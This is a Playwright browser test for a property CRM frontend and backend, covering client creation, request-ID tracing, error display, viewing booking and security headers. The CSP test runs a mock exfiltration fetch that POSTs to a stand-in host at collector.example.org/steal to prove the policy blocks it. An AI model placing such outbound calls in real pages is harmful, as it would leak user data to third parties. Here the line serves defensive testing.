// Browser test (SC-009): real backend, built frontend served with vercel.json's headers, and
// Debian's Chromium driven by playwright-core. A client named "Siobhán O'Brien" is created
// through the UI; the request's X-Request-ID is then found in the API's JSON log and /trace.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";
import { freePort, startBackend, waitForHttp } from "./processes.mjs";
import { startStaticServer } from "./static-server.mjs";

const frontendDir = resolve(dirname(fileURLToPath(import.meta.url)), "..");
const backendServe = resolve(frontendDir, "../backend/serve");
const resultsDir = join(frontendDir, "test-results", "browser");
const chromiumPath = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const CLIENT_NAME = "Siobhán O'Brien";

/** @type {ReturnType<typeof startBackend>} */
let backend;
/** @type {import("node:http").Server} */
let site;
/** @type {import("playwright-core").Browser} */
let browser;
/** @type {import("playwright-core").Page} */
let page;
let apiOrigin = "";
let siteOrigin = "";
let workDir = "";
/** @type {string[]} */
const consoleProblems = [];

before(async () => {
  assert.ok(existsSync(chromiumPath), `Chromium not found at ${chromiumPath}: run scripts/install-system-deps.sh`);
  mkdirSync(resultsDir, { recursive: true });
  workDir = mkdtempSync(join(tmpdir(), "crm-browser-"));
  const [apiPort, sitePort] = [await freePort(), await freePort()];
  apiOrigin = `http://127.0.0.1:${apiPort}`;
  siteOrigin = `http://127.0.0.1:${sitePort}`;

  backend = startBackend({
    serve: backendServe,
    port: apiPort,
    env: {
      DATABASE_URL: `sqlite:///${join(workDir, "crm.db")}`,
      // Generated per run: the test must never hold a fixed secret.
      SECRET_KEY: randomBytes(32).toString("hex"),
      FRONTEND_ORIGIN: siteOrigin,
      ENVIRONMENT: "test",
      RATE_LIMIT_PER_MINUTE: "1000",
    },
  });
  // Build the real bundle for this API origin while the backend starts.
  execFileSync(join(frontendDir, "node_modules/.bin/vite"), ["build", "--outDir", join(workDir, "dist"), "--emptyOutDir", "--logLevel", "warn"], {
    cwd: frontendDir,
    env: { ...process.env, VITE_API_BASE_URL: apiOrigin },
    stdio: ["ignore", "inherit", "inherit"],
  });
  // The build wrote dist/vercel.json with connect-src set to this API origin (vercel-config.mjs):
  // serve with exactly those headers and rewrites, as Vercel would serve the preview.
  const vercelConfig = JSON.parse(readFileSync(join(workDir, "dist", "vercel.json"), "utf8"));
  site = await startStaticServer({ root: join(workDir, "dist"), port: sitePort, config: vercelConfig });
  await waitForHttp(`${apiOrigin}/health`, backend);

  browser = await chromium.launch({ executablePath: chromiumPath, args: ["--no-sandbox", "--disable-dev-shm-usage"] });
  page = await browser.newPage({ locale: "en-GB", timezoneId: "Europe/London" });
  // Every CSP violation on every page becomes a console error the last test looks for.
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      console.error(`CSP violation: ${event.effectiveDirective} blocked ${event.blockedURI}`);
    });
  });
  page.on("console", (message) => {
    if (message.type() === "error") consoleProblems.push(message.text());
  });
  page.on("pageerror", (error) => consoleProblems.push(String(error)));
});

after(async () => {
  if (page) await page.screenshot({ path: join(resultsDir, "last-page.png"), fullPage: true }).catch(() => undefined);
  await browser?.close();
  await new Promise((done) => (site ? site.close(done) : done(undefined)));
  await backend?.stop();
  // The API's JSON request log of this run: scripts/test.d/75-example-check.sh feeds it to the
  // example's error-budget gate, and it is the first place to look when this test fails.
  if (backend) writeFileSync(join(resultsDir, "api-log.jsonl"), backend.rawLines.map((line) => `${line}\n`).join(""));
  if (workDir) rmSync(workDir, { recursive: true, force: true });
});

/** @param {string} requestId */
function logLinesFor(requestId) {
  return backend.logLines.filter((line) => line.request_id === requestId);
}

test("the static site sends vercel.json's security headers and rewrites deep links to the app", async () => {
  const response = await fetch(`${siteOrigin}/clients/new`);
  assert.equal(response.status, 200);
  assert.match(await response.text(), /<div id="root"><\/div>/);
  const csp = response.headers.get("content-security-policy") ?? "";
  assert.match(csp, new RegExp(`connect-src ${apiOrigin.replaceAll(".", "\\.")}(;|$)`));
  assert.match(csp, /script-src 'self'(;|$)/);
  assert.equal(response.headers.get("x-frame-options"), "DENY");
  assert.equal(response.headers.get("cache-control"), "no-cache");
});

test("a client created through the UI is listed, and its request ID is in the API log and /trace", async () => {
  await page.goto(`${siteOrigin}/clients/new`);
  await page.getByLabel("Full name").fill(CLIENT_NAME);
  await page.getByLabel("E-mail").fill("siobhan.obrien@example.com");
  await page.getByLabel("Phone (optional)").fill("+44 20 7946 0958");
  await page.getByLabel("Notes").fill("Wants a two-bed flat near the harbour");
  const [request, response] = await Promise.all([
    page.waitForRequest((r) => r.method() === "POST" && new URL(r.url()).pathname === "/api/clients"),
    page.waitForResponse((r) => r.request().method() === "POST" && new URL(r.url()).pathname === "/api/clients"),
    page.getByRole("button", { name: "Create client" }).click(),
  ]);
  const requestId = (await request.allHeaders())["x-request-id"];
  assert.match(requestId ?? "", /^[0-9a-f-]{36}$/, "the browser sent a fresh X-Request-ID");
  assert.equal(response.status(), 201);
  assert.equal((await response.allHeaders())["x-request-id"], requestId, "the API echoed the browser's ID");

  await page.getByRole("heading", { name: CLIENT_NAME }).waitFor();
  await page.getByText("Client created.").waitFor();
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Clients" }).click();
  const listed = page.getByRole("table", { name: "Clients" }).getByRole("link", { name: CLIENT_NAME });
  await listed.waitFor();
  await page.screenshot({ path: join(resultsDir, "client-created.png"), fullPage: true });

  const logged = logLinesFor(/** @type {string} */ (requestId));
  assert.ok(
    logged.some((line) => line.method === "POST" && line.path === "/api/clients" && line.status === 201),
    `API log has the POST with request_id=${requestId}; lines with that ID: ${JSON.stringify(logged)}`,
  );

  const trace = await fetch(`${apiOrigin}/trace?request_id=${encodeURIComponent(/** @type {string} */ (requestId))}`);
  assert.equal(trace.status, 200);
  const body = /** @type {{request_id: string, components: string[], entries: {component?: string, statement?: string, origin?: string}[]}} */ (await trace.json());
  assert.equal(body.request_id, requestId);
  assert.deepEqual(body.components, ["frontend", "api", "db"]);
  assert.ok(body.entries.some((entry) => entry.component === "frontend" && entry.origin === siteOrigin));
  assert.ok(
    body.entries.some((entry) => entry.component === "db" && entry.statement?.startsWith("INSERT INTO clients") && entry.statement.includes(`request_id=${requestId}`)),
    "the INSERT carries the request ID as a SQL comment",
  );
});

test("a refused request shows its ID to quote to support, and that ID is the one in the API log", async () => {
  await page.goto(`${siteOrigin}/clients/new`);
  await page.getByLabel("Full name").fill(CLIENT_NAME);
  await page.getByLabel("E-mail").fill("siobhan.obrien@example.com");
  const [request] = await Promise.all([
    page.waitForRequest((r) => r.method() === "POST" && new URL(r.url()).pathname === "/api/clients"),
    page.getByRole("button", { name: "Create client" }).click(),
  ]);
  const alert = page.getByRole("alert");
  await alert.getByText("quote this ID to support").waitFor();
  const shown = await alert.getByTestId("request-id").textContent();
  const sent = (await request.allHeaders())["x-request-id"];
  assert.equal(shown, sent);
  assert.match(await alert.textContent() ?? "", /A client with this email exists/);
  await page.screenshot({ path: join(resultsDir, "duplicate-email-error.png"), fullPage: true });
  assert.ok(logLinesFor(/** @type {string} */ (sent)).some((line) => line.status === 409), "the 409 is logged under the ID the user sees");
});

test("a property is listed, opened, and a viewing booked for the new client", async () => {
  const created = await fetch(`${apiOrigin}/api/properties`, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({
      address_line1: "14 Harbour Row",
      city: "Bristol",
      postcode: "BS1 5TX",
      property_type: "flat",
      listing_type: "sale",
      bedrooms: 2,
      bathrooms: 1,
      price_pence: 32_500_000,
    }),
  });
  assert.equal(created.status, 201, await created.clone().text());
  await page.goto(`${siteOrigin}/properties`);
  await page.getByRole("link", { name: "14 Harbour Row" }).click();
  await page.getByRole("heading", { name: "14 Harbour Row" }).waitFor();
  await page.getByText("£325,000").waitFor();
  const form = page.getByRole("form", { name: "Schedule a viewing" });
  await form.getByRole("option", { name: new RegExp(CLIENT_NAME) }).waitFor({ state: "attached" });
  await form.getByLabel("Client").selectOption({ label: `${CLIENT_NAME} (siobhan.obrien@example.com)` });
  await form.getByLabel("Date and time (your local time)").fill("2027-03-10T14:00");
  await form.getByLabel("Notes").fill("Bring the floor plan");
  await form.getByRole("button", { name: "Book viewing" }).click();
  await page.getByRole("table", { name: "Viewings" }).getByText("Bring the floor plan").waitFor();
  await page.getByRole("table", { name: "Viewings" }).getByText("10 Mar 2027, 14:00").waitFor();
  await page.screenshot({ path: join(resultsDir, "viewing-booked.png"), fullPage: true });
});

test("the CSP stops the page from connecting anywhere but the API", async () => {
  await page.goto(`${siteOrigin}/properties`);
  const outcome = await page.evaluate(async () => {
    const violation = new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", (event) => {
        resolve({ directive: event.effectiveDirective, blocked: event.blockedURI, disposition: event.disposition });
      });
    });
    let fetched = "connected";
    try {
      await fetch("https://collector.example.org/steal", { method: "POST", body: "x" });
    } catch (error) {
      fetched = String(error);
    }
    return { fetched, violation: await Promise.race([violation, new Promise((resolve) => setTimeout(() => resolve(null), 2000))]) };
  });
  assert.match(outcome.fetched, /TypeError/);
  assert.deepEqual(outcome.violation, { directive: "connect-src", blocked: "https://collector.example.org/steal", disposition: "enforce" });
  assert.ok(consoleProblems.some((text) => text === "CSP violation: connect-src blocked https://collector.example.org/steal"), "violations reach the console watch");
});

test("no other CSP violation or script error happened in the browser", () => {
  assert.deepEqual(consoleProblems.filter((text) => !/status of 409/.test(text) && !/collector\.example\.org/.test(text)), []);
});
